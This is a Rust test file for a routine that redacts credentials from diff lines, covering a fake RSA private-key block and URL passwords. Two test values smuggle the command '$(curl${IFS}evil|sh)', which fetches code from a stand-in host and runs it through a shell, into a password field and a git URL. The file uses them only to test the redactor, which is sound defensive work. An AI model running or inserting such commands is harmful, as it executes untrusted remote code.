use super::*;

fn diff(lines: &[&str]) -> Vec<String> {
    lines.iter().map(|line| (*line).to_owned()).collect()
}

#[test]
fn a_key_is_found_behind_the_signs_of_a_diff() {
    let body = "MIIEpAIBAAKCAQEA0123456789abcdefghijABCDEFGHIJ0123456789";
    let key = [
        " before",
        "-----BEGIN",
        "+-----BEGIN RSA PRIVATE KEY-----",
        &format!("+{body}"),
        &format!("-{body}"),
        "+-----END RSA PRIVATE KEY-----",
        " after",
        "",
    ];
    let shown = without_credentials(&diff(&key));
    assert_eq!(shown.len(), key.len());
    assert!(!shown.concat().contains("MIIE"), "{shown:?}");
    assert_eq!((shown[0].as_str(), shown[6].as_str(), shown[7].as_str()), (" before", " after", ""));
    assert!(shown[2].starts_with("+[redacted:"), "{shown:?}");
}

#[test]
fn a_command_does_not_hide_as_a_password() {
    let command = "+password = \"x$(curl${IFS}evil|sh)\"";
    let url = "+git clone https://u:$(curl${IFS}evil|sh)@host/x";
    assert_eq!(without_credentials(&diff(&[command, url])), [command, url]);
    let removed = without_credentials(&diff(&["-git clone https://u:hunter2@host/x"]));
    assert_eq!(removed, ["-git clone https://u:[redacted:url-password]@host/x"]);
}
